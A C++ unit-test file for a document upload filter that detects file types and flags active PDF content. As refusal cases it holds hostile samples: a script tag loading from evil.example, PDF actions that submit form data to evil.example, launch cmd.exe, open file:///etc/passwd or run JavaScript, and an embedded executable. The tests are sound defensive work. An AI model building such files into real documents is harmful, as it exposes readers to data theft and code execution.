#include "core/file_types.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <ostream>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

#include "../../support/temp_dir.h"

namespace ruamkit::core {
namespace {

using namespace std::string_literals;

void put16(std::string& out, std::uint32_t v) {
  out.push_back(static_cast<char>(v & 0xFF));
  out.push_back(static_cast<char>((v >> 8) & 0xFF));
}

void put32(std::string& out, std::uint32_t v) {
  put16(out, v & 0xFFFF);
  put16(out, v >> 16);
}

void put32be(std::string& out, std::uint32_t v) {
  for (int shift = 24; shift >= 0; shift -= 8)
    out.push_back(static_cast<char>((v >> shift) & 0xFF));
}

std::uint32_t crc32(std::string_view data) {
  std::uint32_t crc = 0xFFFFFFFF;
  for (const char c : data) {
    crc ^= static_cast<unsigned char>(c);
    for (int k = 0; k < 8; ++k) crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
  }
  return ~crc;
}

using Entries = std::vector<std::pair<std::string, std::string>>;

// A zip archive of stored (uncompressed) entries, in the given order.
std::string zip(const Entries& entries) {
  std::string out;
  std::string directory;
  for (const auto& [name, data] : entries) {
    const auto offset = static_cast<std::uint32_t>(out.size());
    const auto size = static_cast<std::uint32_t>(data.size());
    out += "PK\x03\x04";
    put16(out, 20);      // version needed
    put16(out, 0);       // flags
    put16(out, 0);       // stored
    put16(out, 0);       // time
    put16(out, 0x5A21);  // date
    put32(out, crc32(data));
    put32(out, size);
    put32(out, size);
    put16(out, static_cast<std::uint32_t>(name.size()));
    put16(out, 0);  // extra field
    out += name;
    out += data;

    directory += "PK\x01\x02";
    put16(directory, 20);  // made by
    put16(directory, 20);  // version needed
    put16(directory, 0);
    put16(directory, 0);
    put16(directory, 0);
    put16(directory, 0x5A21);
    put32(directory, crc32(data));
    put32(directory, size);
    put32(directory, size);
    put16(directory, static_cast<std::uint32_t>(name.size()));
    put16(directory, 0);  // extra field
    put16(directory, 0);  // comment
    put16(directory, 0);  // disk
    put16(directory, 0);  // internal attributes
    put32(directory, 0);  // external attributes
    put32(directory, offset);
    directory += name;
  }
  const auto directory_offset = static_cast<std::uint32_t>(out.size());
  out += directory;
  out += "PK\x05\x06";
  put16(out, 0);
  put16(out, 0);
  put16(out, static_cast<std::uint32_t>(entries.size()));
  put16(out, static_cast<std::uint32_t>(entries.size()));
  put32(out, static_cast<std::uint32_t>(directory.size()));
  put32(out, directory_offset);
  put16(out, 0);  // comment
  return out;
}

const std::string kContentTypes =
    R"(<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>)";

// An Office Open XML package in the order Microsoft Office writes it.
std::string ooxml(std::string_view main_part) {
  return zip({{"[Content_Types].xml", kContentTypes},
              {"_rels/.rels", "<Relationships/>"},
              {std::string(main_part), "<document/>"},
              {"docProps/core.xml", "<coreProperties/>"}});
}

std::string open_document(std::string_view mime) {
  return zip({{"mimetype", std::string(mime)},
              {"content.xml", "<office:document-content/>"},
              {"META-INF/manifest.xml", "<manifest:manifest/>"}});
}

// A Compound File Binary (the container of .doc, .xls and .ppt) in 512-byte
// sectors: one empty stream named `stream` and, when `application` is not
// empty, a SummaryInformation property set naming the creating application.
std::string compound_file(std::string_view stream, std::string_view application = "") {
  constexpr std::uint32_t kEnd = 0xFFFFFFFE;
  constexpr std::uint32_t kNone = 0xFFFFFFFF;
  std::string summary;
  if (!application.empty()) {
    std::string app(application);
    app.resize((app.size() + 4) / 4 * 4, '\0');  // NUL-terminated, 4-byte aligned
    std::string section;
    put32(section, static_cast<std::uint32_t>(16 + 8 + app.size()));
    put32(section, 1);     // one property
    put32(section, 0x12);  // PIDSI_APPNAME
    put32(section, 16);    // at this offset
    put32(section, 0x1E);  // VT_LPSTR
    put32(section, static_cast<std::uint32_t>(app.size()));
    section += app;
    put16(summary, 0xFFFE);  // byte order
    put16(summary, 0);
    put32(summary, 0x00020006);  // Windows
    summary.append(16, '\0');
    put32(summary, 1);  // one section: FMTID_SummaryInformation
    summary += "\xE0\x85\x9F\xF2\xF9\x4F\x68\x10\xAB\x91\x08\x00\x2B\x27\xB3\xD9"s;
    put32(summary, 48);
    summary += section;
  }
  const auto mini_sectors = static_cast<std::uint32_t>((summary.size() + 63) / 64);

  std::string out = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1";
  out.append(16, '\0');
  put16(out, 0x3E);    // minor version
  put16(out, 3);       // major version
  put16(out, 0xFFFE);  // byte order
  put16(out, 9);       // 512-byte sectors
  put16(out, 6);       // 64-byte mini sectors
  out.append(6, '\0');
  put32(out, 0);                           // directory sectors (version 3)
  put32(out, 1);                           // FAT sectors
  put32(out, 1);                           // first directory sector
  put32(out, 0);                           // transaction
  put32(out, 0x1000);                      // mini stream cut-off
  put32(out, summary.empty() ? kEnd : 2);  // first mini FAT sector
  put32(out, summary.empty() ? 0 : 1);     // mini FAT sectors
  put32(out, kEnd);                        // no DIFAT sectors
  put32(out, 0);
  put32(out, 0);  // the FAT is sector 0
  out.append(108 * 4, '\xFF');

  auto sector = [&out](std::string data, char fill) {
    data.resize(512, fill);
    out += data;
  };
  std::string fat;
  put32(fat, 0xFFFFFFFD);  // sector 0: the FAT
  put32(fat, kEnd);        // sector 1: the directory
  if (!summary.empty()) {
    put32(fat, kEnd);  // sector 2: the mini FAT
    put32(fat, kEnd);  // sector 3: the mini stream
  }
  sector(fat, '\xFF');

  auto entry = [](std::string_view name, int type, std::uint32_t right, std::uint32_t child,
                  std::uint32_t start, std::uint32_t size) {
    std::string e;
    for (const char c : name) e += std::string{c, '\0'};
    e.resize(64, '\0');
    put16(e, static_cast<std::uint32_t>(2 * name.size() + 2));
    e.push_back(static_cast<char>(type));
    e.push_back(1);  // black
    put32(e, kNone);
    put32(e, right);
    put32(e, child);
    e.append(36, '\0');  // CLSID, state, times
    put32(e, start);
    put32(e, size);
    put32(e, 0);
    return e;
  };
  std::string directory =
      entry("Root Entry", 5, kNone, 1, summary.empty() ? kEnd : 3, mini_sectors * 64);
  directory += entry(stream, 2, summary.empty() ? kNone : 2, kNone, kEnd, 0);
  if (!summary.empty()) {
    directory += entry("\x05SummaryInformation", 2, kNone, kNone, 0,
                       static_cast<std::uint32_t>(summary.size()));
  }
  sector(directory, '\0');
  if (!summary.empty()) {
    std::string mini_fat;
    for (std::uint32_t i = 1; i < mini_sectors; ++i) put32(mini_fat, i);
    put32(mini_fat, kEnd);
    sector(mini_fat, '\xFF');
    sector(summary, '\0');
  }
  return out;
}

std::string png() {
  auto chunk = [](std::string_view type, std::string_view data) {
    std::string out;
    put32be(out, static_cast<std::uint32_t>(data.size()));
    out += std::string(type) + std::string(data);
    put32be(out, crc32(std::string(type) + std::string(data)));
    return out;
  };
  std::string header;
  put32be(header, 1);                 // width
  put32be(header, 1);                 // height
  header += "\x08\x00\x00\x00\x00"s;  // 8-bit grey
  return "\x89PNG\r\n\x1A\n"s + chunk("IHDR", header) +
         chunk("IDAT", "\x78\x9C\x63\x60\x00\x00\x00\x02\x00\x01"s) + chunk("IEND", "");
}

const std::string kPdf =
    "%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n";
const std::string kJpeg =
    "\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xFF\xD9"s;
const std::string kGif = "GIF89a\x01\x00\x01\x00\x00\x00\x00;"s;
const std::string kWebp =
    "RIFF\x1A\x00\x00\x00WEBPVP8L\x0D\x00\x00\x00\x2F\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xFE\x07\x00"s;

std::string utf16le(std::string_view ascii) {
  std::string out = "\xFF\xFE";
  for (const char c : ascii) out += std::string{c, '\0'};
  return out;
}

void expect_type(const std::string& content, std::string_view mime, std::string_view extension,
                 bool inline_safe) {
  auto type = detect_document_type(content);
  ASSERT_TRUE(type) << mime;
  EXPECT_EQ(type->mime, mime);
  EXPECT_EQ(type->extension, extension);
  EXPECT_EQ(type->inline_safe, inline_safe) << mime;
}

TEST(FileTypes, PdfAndRasterImagesAreInline) {
  expect_type(kPdf, "application/pdf", "pdf", true);
  expect_type(png(), "image/png", "png", true);
  expect_type(kJpeg, "image/jpeg", "jpg", true);
  expect_type(kGif, "image/gif", "gif", true);
  expect_type(kWebp, "image/webp", "webp", true);
}

TEST(FileTypes, OfficeOpenXml) {
  expect_type(ooxml("word/document.xml"),
              "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx",
              false);
  expect_type(ooxml("xl/workbook.xml"),
              "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx", false);
  expect_type(ooxml("ppt/presentation.xml"),
              "application/vnd.openxmlformats-officedocument.presentationml.presentation", "pptx",
              false);
}

TEST(FileTypes, OfficeOpenXmlInAnOrderLibmagicMisses) {
  // libmagic only looks at a few entries; here it sees a plain zip.
  expect_type(zip({{"[Content_Types].xml", kContentTypes}, {"word/document.xml", "<d/>"}}),
              "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx",
              false);
  expect_type(zip({{"[Content_Types].xml", kContentTypes},
                   {"_rels/.rels", "<r/>"},
                   {"docProps/app.xml", "<a/>"},
                   {"ppt/presentation.xml", "<p/>"}}),
              "application/vnd.openxmlformats-officedocument.presentationml.presentation", "pptx",
              false);
}

TEST(FileTypes, ZipsThatAreNotDocumentsAreRefused) {
  EXPECT_FALSE(detect_document_type(zip({{"hello.txt", "hi"}})));
  // No [Content_Types].xml.
  EXPECT_FALSE(detect_document_type(zip({{"a.txt", "a"}, {"word/document.xml", "<d/>"}})));
  // Both a document and a workbook.
  EXPECT_FALSE(detect_document_type(zip({{"[Content_Types].xml", kContentTypes},
                                         {"word/document.xml", "<d/>"},
                                         {"docProps/app.xml", "<a/>"},
                                         {"xl/workbook.xml", "<w/>"}})));
  std::string broken = zip({{"[Content_Types].xml", kContentTypes}, {"word/document.xml", "<d/>"}});
  broken.resize(broken.size() - 30);  // the end record is cut off
  EXPECT_FALSE(detect_document_type(broken));
  EXPECT_FALSE(detect_document_type("PK\x05\x06"s + std::string(18, '\xFF')));
}

TEST(FileTypes, OpenDocument) {
  expect_type(open_document("application/vnd.oasis.opendocument.text"),
              "application/vnd.oasis.opendocument.text", "odt", false);
  expect_type(open_document("application/vnd.oasis.opendocument.spreadsheet"),
              "application/vnd.oasis.opendocument.spreadsheet", "ods", false);
  expect_type(open_document("application/vnd.oasis.opendocument.presentation"),
              "application/vnd.oasis.opendocument.presentation", "odp", false);
}

TEST(FileTypes, LegacyOffice) {
  // By the streams in the directory...
  expect_type(compound_file("WordDocument"), "application/msword", "doc", false);
  expect_type(compound_file("Workbook"), "application/vnd.ms-excel", "xls", false);
  // ...or by the creating application in the summary information.
  expect_type(compound_file("PowerPoint Document", "Microsoft Office PowerPoint"),
              "application/vnd.ms-powerpoint", "ppt", false);
  expect_type(compound_file("WordDocument", "LibreOffice/7.4"), "application/msword", "doc", false);
}

TEST(FileTypes, UnidentifiedCompoundFilesAreRefused) {
  EXPECT_FALSE(detect_document_type(compound_file("Foo")));  // application/x-ole-storage
  EXPECT_FALSE(detect_document_type(compound_file("Foo", "LibreOffice/7.4")));    // vnd.ms-office
  EXPECT_FALSE(detect_document_type(compound_file("Foo", "Windows Installer")));  // msi
  EXPECT_FALSE(detect_document_type(compound_file("WordDocument").substr(0, 700)));  // truncated
}

TEST(FileTypes, PlainTextAndCsv) {
  expect_type("สวัสดีครับ\nบันทึกการประชุม\n", "text/plain", "txt", false);
  expect_type("\xEF\xBB\xBFhello with a byte order mark\n", "text/plain", "txt", false);
  expect_type("a < b and b > c\n", "text/plain", "txt", false);
  expect_type(utf16le("hello\n"), "text/plain", "txt", false);
  expect_type("name,age,city\nAnn,30,Bangkok\nBo,41,Chiang Mai\n", "text/csv", "csv", false);
  expect_type("ชื่อ,อายุ\r\nสมชาย,30\r\nสมหญิง,41\r\n", "text/csv", "csv", false);
}

TEST(FileTypes, HtmlIsRefusedWhateverItIsCalled) {
  // An HTML page renamed report.pdf is still HTML: only the bytes count.
  EXPECT_FALSE(detect_document_type("<!DOCTYPE html><html><body>hi</body></html>\n"));
  EXPECT_FALSE(detect_document_type("<html><script>alert(1)</script></html>\n"));
  EXPECT_FALSE(detect_document_type("\xEF\xBB\xBF<html><body>x</body></html>\n"));
  EXPECT_FALSE(detect_document_type("  <script>alert(1)</script>\n"));
  EXPECT_FALSE(detect_document_type("hello\nworld <script>x</script>\n"));
}

TEST(FileTypes, MarkupLibmagicCallsTextIsRefused) {
  EXPECT_FALSE(detect_document_type("<div>hello</div>\n"));
  EXPECT_FALSE(detect_document_type("\xEF\xBB\xBF \r\n\t<p>hi\n"));
  EXPECT_FALSE(detect_document_type(utf16le("<b>x</b>\n")));
  EXPECT_FALSE(detect_document_type(utf16le("see <ScRiPt>alert(1)</script>\n")));
  std::string long_text;
  while (long_text.size() < 200 * 1024) long_text += "a line of ordinary text\n";
  expect_type(long_text, "text/plain", "txt", false);
  EXPECT_FALSE(detect_document_type(long_text + "<SCRIPT src=//evil.example/x.js></SCRIPT>\n"));
  EXPECT_FALSE(detect_document_type("a,b\n1,<script>\n2,3\n"));
}

TEST(FileTypes, SvgAndXmlAreRefused) {
  EXPECT_FALSE(detect_document_type(
      "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n"));
  EXPECT_FALSE(detect_document_type(
      "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\"/>\n"));
  EXPECT_FALSE(detect_document_type("<?xml version=\"1.0\"?>\n<root/>\n"));
}

TEST(FileTypes, ProgramsAndUnknownBytesAreRefused) {
  EXPECT_FALSE(detect_document_type(""));
  EXPECT_FALSE(detect_document_type("#!/bin/sh\necho hi\n"));
  EXPECT_FALSE(detect_document_type("{\"a\": 1}\n"));  // application/json
  std::string elf =
      "\x7F"
      "ELF\x02\x01\x01"s;
  elf.resize(64, '\0');
  elf[16] = 2;  // ET_EXEC
  elf[18] = 0x3E;
  elf[20] = 1;
  EXPECT_FALSE(detect_document_type(elf));
  std::string exe = "MZ\x90\x00\x03\x00\x00\x00"s;
  exe.resize(256, '\0');
  EXPECT_FALSE(detect_document_type(exe));
  std::string bytes;
  for (int i = 0; i < 256; ++i) bytes.push_back(static_cast<char>(i));
  EXPECT_FALSE(detect_document_type(bytes));
  EXPECT_FALSE(detect_document_type(std::string(1000, '\0')));
}

TEST(FileTypes, TypeForStoredMime) {
  auto pdf = document_type_for_mime("application/pdf");
  ASSERT_TRUE(pdf);
  EXPECT_EQ(pdf->extension, "pdf");
  EXPECT_TRUE(pdf->inline_safe);
  auto xlsx =
      document_type_for_mime("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
  ASSERT_TRUE(xlsx);
  EXPECT_EQ(xlsx->extension, "xlsx");
  EXPECT_FALSE(xlsx->inline_safe);
  EXPECT_FALSE(document_type_for_mime("text/html"));
  EXPECT_FALSE(document_type_for_mime("image/svg+xml"));
  EXPECT_FALSE(document_type_for_mime("application/zip"));
  EXPECT_FALSE(document_type_for_mime(""));
}

TEST(FileTypes, WorksFromManyThreads) {
  std::vector<std::thread> threads;
  std::vector<int> ok(4, 0);
  const std::string docx = ooxml("word/document.xml");
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 25; ++i) {
        ok[t] += detect_document_type(kPdf).has_value() && detect_document_type(docx).has_value() &&
                 !detect_document_type("<html></html>");
      }
    });
  }
  for (auto& thread : threads) thread.join();
  for (int t = 0; t < 4; ++t) EXPECT_EQ(ok[t], 25);
}

}  // namespace
}  // namespace ruamkit::core

namespace ruamkit::core {
namespace {

// A PDF file of `objects` (numbered from 1; 1 is the catalog) with a correct
// cross-reference table.
std::string pdf_file(const std::vector<std::string>& objects) {
  std::string out = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
  std::vector<std::size_t> offsets;
  for (std::size_t i = 0; i < objects.size(); ++i) {
    offsets.push_back(out.size());
    out += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  const auto xref = out.size();
  out += "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
  for (const auto offset : offsets) {
    std::string number = std::to_string(offset);
    out += std::string(10 - number.size(), '0') + number + " 00000 n \n";
  }
  out += "trailer\n<< /Size " + std::to_string(objects.size() + 1) +
         " /Root 1 0 R >>\nstartxref\n" + std::to_string(xref) + "\n%%EOF\n";
  return out;
}

// A one-page PDF: `catalog` and `page` are more entries of the catalog (1)
// and the page (3); `more` are objects 4, 5, ...
std::string one_page(std::string_view catalog = "", std::string_view page = "",
                     const std::vector<std::string>& more = {}) {
  std::vector<std::string> objects = {
      "<< /Type /Catalog /Pages 2 0 R " + std::string(catalog) + " >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + std::string(page) + " >>",
  };
  objects.insert(objects.end(), more.begin(), more.end());
  return pdf_file(objects);
}

// A link annotation on the page, running `action`.
std::string link(std::string_view action) {
  return one_page(
      "", "/Annots [4 0 R]",
      {"<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A " + std::string(action) + " >>"});
}

// tests/data/pdf (see its README).
std::string pdf_fixture(std::string_view name) { return ruamkit::testing::test_data("pdf", name); }

struct PdfCase {
  const char* name;
  std::string pdf;
};

void PrintTo(const PdfCase& c, std::ostream* os) { *os << c.name; }

class SafePdfs : public ::testing::TestWithParam<PdfCase> {};
class ActivePdfs : public ::testing::TestWithParam<PdfCase> {};

TEST_P(SafePdfs, AreAccepted) {
  ASSERT_TRUE(detect_document_type(GetParam().pdf)) << "libmagic sees a PDF";
  EXPECT_FALSE(pdf_has_active_content(GetParam().pdf));
}

TEST_P(ActivePdfs, AreRefused) { EXPECT_TRUE(pdf_has_active_content(GetParam().pdf)); }

// What the integration tests upload: no cross-reference table, which qpdf
// rebuilds (as viewers do).
const std::string kPdfWithoutXref =
    "%PDF-1.4\n"
    "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
    "% \xE0\xB8\xA3\xE0\xB9\x88\xE0\xB8\xB2\xE0\xB8\x87\n"
    "trailer << /Root 1 0 R >>\n"
    "%%EOF\n";

INSTANTIATE_TEST_SUITE_P(
    PdfActiveContent, SafePdfs,
    ::testing::Values(
        PdfCase{"Plain", one_page()}, PdfCase{"WithoutCrossReferenceTable", kPdfWithoutXref},
        PdfCase{"WebLink", link("<< /S /URI /URI (https://www.example.go.th/hearing?id=7) >>")},
        PdfCase{"MailLink", link("<< /S /URI /URI (mailto:office@example.go.th) >>")},
        PdfCase{"LinkToAPageAboutJavaScript",
                link("<< /S /URI /URI (https://developer.mozilla.org/en-US/docs/Web/JavaScript) "
                     ">>")},
        PdfCase{"GoToAPage", link("<< /S /GoTo /D [3 0 R /Fit] >>")},
        PdfCase{"OpenAtAPageAsLibreOfficeWrites", one_page("/OpenAction [3 0 R /XYZ null null 0]")},
        PdfCase{"OpenWithAGoToAction", one_page("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")},
        PdfCase{"OpenAtANamedDestination", one_page("/OpenAction (chapter1)")},
        PdfCase{"LookAlikeNames", one_page("/JSON (not a script) /Launcher 1 /XFAX 2 /AAA 3")},
        PdfCase{"NamesInStrings",
                one_page("/Lang (th) /Info (/JavaScript /JS /Launch /OpenAction in a string)")},
        PdfCase{"FillInFormWithoutActions",
                one_page("/AcroForm << /Fields [4 0 R] >>", "/Annots [4 0 R]",
                         {"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 100 "
                          "30] /P 3 0 R >>"})},
        PdfCase{"ObjectStreamsFromQpdf", pdf_fixture("objstm_plain.pdf")},
        PdfCase{"EncryptedWithoutUserPassword", pdf_fixture("encrypted_no_user_password.pdf")},
        PdfCase{"ObjectStreamWithinTheInflateBudget", pdf_fixture("objstm_within_budget.pdf")}),
    [](const auto& info) { return std::string(info.param.name); });

INSTANTIATE_TEST_SUITE_P(
    PdfActiveContent, ActivePdfs,
    ::testing::Values(
        PdfCase{"OpenActionJavaScript",
                one_page("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")},
        PdfCase{"EscapedNamesInALink", link("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")},
        PdfCase{"EscapedNamesOnOpening",
                one_page("/OpenAction 4 0 R", "",
                         {"<< /#53 /#4A#61#76#61Script /JS 5 0 R >>",
                          "<< /Length 12 >>\nstream\napp.alert(1)\nendstream"})},
        PdfCase{"DocumentLevelJavaScript",
                one_page("/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", "",
                         {"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})},
        PdfCase{"JavaScriptInsideACompressedObjectStream", pdf_fixture("objstm_javascript.pdf")},
        PdfCase{"AdditionalActionsOnAPage", one_page("", "/AA << /O << /S /GoTo /D [3 0 R] >> >>")},
        PdfCase{"Launch", link("<< /S /Launch /F (cmd.exe) >>")},
        PdfCase{"SubmitForm", link("<< /S /SubmitForm /F (https://evil.example/collect) >>")},
        PdfCase{"ImportData", link("<< /S /ImportData /F (data.fdf) >>")},
        PdfCase{"RemoteGoTo", link("<< /S /GoToR /F (https://evil.example/x.pdf) /D [0 /Fit] >>")},
        PdfCase{"EmbeddedGoTo", link("<< /S /GoToE /T << /R /C /N (a.pdf) >> >>")},
        PdfCase{"OpenActionUri",
                one_page("/OpenAction << /S /URI /URI (https://evil.example/) >>")},
        PdfCase{"OpenActionPrint", one_page("/OpenAction << /S /Named /N /Print >>")},
        PdfCase{"OpenActionGoToWithNext",
                one_page("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", "",
                         {"<< /S /URI /URI (https://evil.example/) >>"})},
        PdfCase{"JavaScriptUri", link("<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")},
        PdfCase{"JavaScriptUriInDisguise", link("<< /S /URI /URI ( JaVa\tScRiPt:alert\\(1\\)) >>")},
        PdfCase{"FileUri", link("<< /S /URI /URI (file:///etc/passwd) >>")},
        PdfCase{"EmbeddedFiles",
                one_page("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "",
                         {"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                          "<< /Length 2 >>\nstream\nMZ\nendstream"})},
        PdfCase{"FileAttachmentAnnotation",
                one_page("", "/Annots [4 0 R]",
                         {"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) "
                          ">>"})},
        PdfCase{"XfaForm", one_page("/AcroForm << /Fields [] /XFA 4 0 R >>", "",
                                    {"<< /Length 7 >>\nstream\n<xdp/>\nendstream"})},
        PdfCase{"RichMedia", one_page("", "/Annots [4 0 R]",
                                      {"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"})},
        PdfCase{"NeedsAPassword", pdf_fixture("encrypted_user_password.pdf")},
        PdfCase{"ObjectStreamBomb", pdf_fixture("objstm_bomb.pdf")}, PdfCase{"Empty", ""},
        PdfCase{"NotAPdf", "hello, world\n"},
        PdfCase{"Garbage", "%PDF-1.7\n\x01\x02\x03 garbage \xFF\xFE\n%%EOF\n"},
        PdfCase{"Truncated", one_page().substr(0, 40)},
        PdfCase{"RootIsNotADictionary",
                "%PDF-1.4\n1 0 obj 42 endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(PdfActiveContent, FragmentsAreNotDocuments) {
  // The byte scan this replaced looked at fragments; qpdf must read a file.
  EXPECT_TRUE(
      pdf_has_active_content("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"));
  EXPECT_TRUE(pdf_has_active_content("trailer /JS"));
  EXPECT_TRUE(pdf_has_active_content("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >>"));
}

TEST(PdfActiveContent, WorksFromManyThreads) {
  const auto safe = one_page();
  const auto active = pdf_fixture("objstm_javascript.pdf");
  std::vector<std::thread> threads;
  std::vector<int> ok(4, 0);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 25; ++i) {
        ok[t] += !pdf_has_active_content(safe) && pdf_has_active_content(active);
      }
    });
  }
  for (auto& thread : threads) thread.join();
  for (int t = 0; t < 4; ++t) EXPECT_EQ(ok[t], 25);
}

}  // namespace
}  // namespace ruamkit::core
